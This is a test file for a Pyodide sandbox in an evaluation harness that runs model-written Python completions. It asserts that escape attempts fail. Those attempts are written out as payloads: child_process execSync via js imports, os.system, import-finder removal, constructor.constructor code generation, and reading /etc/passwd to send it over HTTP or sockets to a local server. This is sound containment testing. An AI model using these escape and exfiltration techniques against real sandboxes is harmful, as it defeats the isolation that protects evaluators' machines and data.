/**
 * The Python sandbox of the evaluation harness, with real Pyodide in real child processes: completions that try to
 * leave it (through `js`, `pyodide_js`, `run_js`, `__import__`, `os.system`, `subprocess`, sockets, HTTP, the file
 * system, and past the Python lockdown into JavaScript) fail and leave no trace on this machine; one that loops is
 * stopped at its time limit and one that allocates 4 GiB is refused, and the runner keeps serving after both; a
 * correct completion of a real HumanEval problem still passes and a wrong one fails.
 */
import { spawn } from 'node:child_process'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { EvalProblem } from '../../core/eval.ts'
import { buildLockedProgram } from '../../core/python-lockdown.ts'
import { createPythonRunner, sandboxArgs, type PythonRunner } from './python.ts'
import { loadProblems } from './fim.ts'

let runner: PythonRunner
let problem: EvalProblem
let dir: string
let server: Server
let port: number
let requests = 0

beforeAll(async () => {
  runner = createPythonRunner()
  problem = (await loadProblems('humaneval', { limit: 1 }))[0]!
  dir = await mkdtemp(join(tmpdir(), 'modelex-sandbox-'))
  server = createServer((_req, res) => {
    requests++
    res.end('ok')
  })
  server.on('upgrade', (_req, socket) => {
    requests++
    socket.destroy()
  })
  server.on('connection', () => requests++)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  port = (server.address() as { port: number }).port
})

afterAll(async () => {
  await runner?.close()
  await new Promise((resolve) => server?.close(resolve))
  if (dir) await rm(dir, { recursive: true, force: true })
})

/** A completion of the problem's function whose body is `body` (indented here). */
const completing = (body: string) =>
  buildLockedProgram(
    problem,
    body
      .split('\n')
      .map((line) => `    ${line}`)
      .join('\n') + '\n',
  )

test('the child runs under the permission model, with code generation off and only Pyodide and itself readable', () => {
  const args = sandboxArgs()
  expect(args.some((arg) => arg === '--experimental-permission' || arg === '--permission')).toBe(true)
  expect(args).toContain('--disallow-code-generation-from-strings')
  expect(args.filter((arg) => arg.startsWith('--allow-')).map((arg) => arg.split('=')[0])).toEqual([
    '--allow-fs-read',
    '--allow-fs-read',
  ])
  expect(args.some((arg) => arg.startsWith('--max-old-space-size='))).toBe(true)
})

test('a correct completion of a HumanEval problem passes and a wrong one fails', async () => {
  expect(await runner.run(buildLockedProgram(problem, problem.canonical_solution), 10_000)).toEqual({
    status: 'passed',
  })
  expect(await runner.run(completing('return None'), 10_000)).toMatchObject({ status: 'failed' })
})

describe('completions that try to escape fail and leave no trace', () => {
  const marker = () => join(dir, 'escaped')
  const shell = () => `touch ${marker()}`
  const attempts: [string, () => string, RegExp][] = [
    [
      'import js',
      () => `import js\njs.process.mainModule.require('child_process').execSync('${shell()}')`,
      /import of js halted/,
    ],
    [
      'import pyodide_js',
      () => `import pyodide_js\npyodide_js._module.FS.writeFile('${marker()}', 'x')`,
      /import of pyodide_js halted/,
    ],
    [
      'from pyodide.code import run_js',
      () => `from pyodide.code import run_js\nrun_js("require('child_process').execSync('${shell()}')")`,
      /import of pyodide.code halted/,
    ],
    ["__import__('js')", () => `__import__('js').process.exit(0)`, /import of js halted/],
    [
      'pyodide.ffi',
      () => `from pyodide.ffi import to_js\nto_js({}).constructor.constructor('return process')().exit(0)`,
      /import of pyodide.ffi halted/,
    ],
    ['micropip and pyodide.http', () => `import micropip\nimport pyodide.http`, /micropip/],
    ['ctypes', () => `import ctypes\nctypes.CDLL(None)`, /import of ctypes halted/],
    ['os.system', () => `import os\nos.system('${shell()}')`, /PermissionError: system is not available/],
    ['os.popen', () => `import os\nos.popen('${shell()}').read()`, /PermissionError: popen is not available/],
    ['posix.system', () => `import posix\nposix.system('${shell()}')`, /PermissionError: system is not available/],
    ['subprocess', () => `import subprocess\nsubprocess.run(['touch', '${marker()}'])`, /import of subprocess halted/],
    [
      're-enabling js past the finder',
      () => `import sys\ndel sys.modules['js']\nsys.meta_path.pop(0)\nimport js\njs.process.exit(0)`,
      /No module named 'js'/,
    ],
    [
      "the JS finder's table",
      () =>
        `import importlib.abc\nfinder = [c for c in importlib.abc.MetaPathFinder.__subclasses__() if c.__name__ == 'JsFinder'][0]\nfinder.find_spec.__globals__['jsfinder'].jsproxies['pyodide_js'].mountNodeFS('/x', '/')`,
      /KeyError: 'pyodide_js'/,
    ],
    ['writing a file on this machine', () => `open('${marker()}', 'w').write('x')`, /No such file or directory/],
    [
      'a JavaScript Function reached past the lockdown',
      () =>
        `import gc\ncore = next(m for m in gc.get_objects() if type(m).__name__ == 'module' and m.__name__ == '_pyodide_core')\nF = core.create_proxy(lambda: 0).constructor.constructor\nF("require('child_process').execSync('${shell()}')")()`,
      /Code generation from strings disallowed/,
    ],
  ]
  test.each(attempts)('%s', async (_name, code, why) => {
    const outcome = await runner.run(completing(code()), 10_000)
    expect(outcome).toMatchObject({ status: 'failed', error: expect.stringMatching(why) })
    expect(existsSync(marker())).toBe(false)
    // The runner still scores the next program.
    expect(await runner.run(buildLockedProgram(problem, problem.canonical_solution), 10_000)).toEqual({
      status: 'passed',
    })
  })

  test('reading /etc/passwd and sending it out: over HTTP, a socket, or a socket module built past the lockdown', async () => {
    const attempts: [string, RegExp][] = [
      [`data = open('/etc/passwd').read()`, /No such file or directory: '\/etc\/passwd'/],
      [
        `import urllib.request\nurllib.request.urlopen('http://127.0.0.1:${port}/', data=b'secret')`,
        /import of urllib.request halted/,
      ],
      [
        `import socket\ns = socket.create_connection(('127.0.0.1', ${port}))\ns.sendall(b'secret')`,
        /import of socket halted/,
      ],
      // Emscripten would carry this socket over a WebSocket; the child took `ws` away after loading.
      [
        `import importlib.machinery, importlib.util\nspec = importlib.machinery.BuiltinImporter.find_spec('_socket') or importlib.machinery.PathFinder.find_spec('_socket')\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\ns = m.socket()\ns.connect(('127.0.0.1', ${port}))\ns.send(b'secret')\nassert False`,
        /OSError/,
      ],
    ]
    for (const [code, why] of attempts)
      expect(await runner.run(completing(code), 10_000)).toMatchObject({
        status: 'failed',
        error: expect.stringMatching(why),
      })
    // A connection would be opened by the child's event loop after the program; one more round trip lets it run.
    expect(await runner.run(buildLockedProgram(problem, problem.canonical_solution), 10_000)).toEqual({
      status: 'passed',
    })
    expect(requests).toBe(0)
  })
})

test('an infinite loop is stopped at its time limit, and the next program gets a fresh sandbox', async () => {
  const started = performance.now()
  expect(await runner.run(completing('while True:\n    pass'), 1_000)).toEqual({ status: 'timeout', limitMs: 1_000 })
  expect(performance.now() - started).toBeLessThan(5_000)
  expect(await runner.run(buildLockedProgram(problem, problem.canonical_solution), 10_000)).toEqual({
    status: 'passed',
  })
})

test('allocating 4 GiB fails (MemoryError or a crash), and the runner goes on', async () => {
  const outcome = await runner.run(
    completing('chunks = [bytearray(256 * 1024 * 1024) for _ in range(16)]\nreturn len(chunks)'),
    30_000,
  )
  expect(outcome.status).toBe('failed')
  expect(await runner.run(buildLockedProgram(problem, problem.canonical_solution), 10_000)).toEqual({
    status: 'passed',
  })
})

test("a program that changes shared interpreter state cannot change the next one's result", async () => {
  // `len` always 3 would let wrong answers pass later; the runner replaces the tainted interpreter.
  await runner.run(completing('import builtins\nbuiltins.len = lambda x: 3\nreturn None'), 10_000)
  expect(await runner.run('assert len([1]) == 1', 10_000)).toEqual({ status: 'passed' })
})

test('close() stops the child by PID, and a closed runner can start again', async () => {
  const other = createPythonRunner()
  expect(await other.run('assert 1 + 1 == 2', 30_000)).toEqual({ status: 'passed' })
  await other.close()
  expect(await other.run('assert 2 + 2 == 4', 30_000)).toEqual({ status: 'passed' })
  await other.close()
})

/** Live (not zombie) children of `parent`, from /proc. */
function childrenOf(parent: number): number[] {
  const pids: number[] = []
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue
    try {
      const stat = readFileSync(`/proc/${entry}/stat`, 'utf8')
      const [state, ppid] = stat.slice(stat.lastIndexOf(')') + 2).split(' ')
      if (Number(ppid) === parent && state !== 'Z') pids.push(Number(entry))
    } catch {
      // Gone while reading.
    }
  }
  return pids
}

const alive = (pid: number) => {
  try {
    return !readFileSync(`/proc/${pid}/stat`, 'utf8').includes(') Z ')
  } catch {
    return false
  }
}

async function until(condition: () => boolean, limitMs: number): Promise<boolean> {
  const end = performance.now() + limitMs
  while (performance.now() < end) {
    if (condition()) return true
    await new Promise((r) => setTimeout(r, 100))
  }
  return condition()
}

describe.runIf(process.platform === 'linux')('a sandbox busy with a program does not outlive the evaluator', () => {
  /** Starts an evaluator process whose runner is busy with an endless program, and returns it with its sandbox's PID. */
  async function busyEvaluator(limitMs: number) {
    const script = join(dir, `parent-${limitMs}.mts`)
    const runnerUrl = new URL('./python.ts', import.meta.url).href
    await writeFile(
      script,
      [
        `import { createPythonRunner } from ${JSON.stringify(runnerUrl)}`,
        'const runner = createPythonRunner()',
        "await runner.run('assert True', 60_000)",
        `void runner.run('while True:\\n    pass', ${limitMs})`,
        "console.log('busy')",
        "process.stdin.on('data', () => process.exit(0))",
      ].join('\n'),
    )
    const parent = spawn(process.execPath, ['--import', 'tsx', script], {
      cwd: resolve(import.meta.dirname, '../../..'),
      stdio: ['pipe', 'pipe', 'inherit'],
    })
    await new Promise<void>((ready, fail) => {
      parent.stdout.on('data', (chunk: Buffer) => chunk.toString().includes('busy') && ready())
      parent.once('exit', (code) => fail(new Error(`the evaluator exited (${code})`)))
    })
    const [sandbox] = childrenOf(parent.pid!).filter((pid) =>
      readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('python-child.mjs'),
    )
    expect(sandbox).toBeTypeOf('number')
    return { parent, sandbox: sandbox! }
  }

  test('the evaluator exiting kills it', async () => {
    const { parent, sandbox } = await busyEvaluator(600_000)
    expect(alive(sandbox)).toBe(true)
    parent.stdin.write('exit\n')
    expect(await until(() => !alive(sandbox), 10_000)).toBe(true)
  })

  test('the evaluator killed outright (no exit handlers): the sandbox stops its program at the time limit and exits', async () => {
    const { parent, sandbox } = await busyEvaluator(2_000)
    process.kill(parent.pid!, 'SIGKILL')
    expect(await until(() => !alive(sandbox), 20_000)).toBe(true)
  })
})
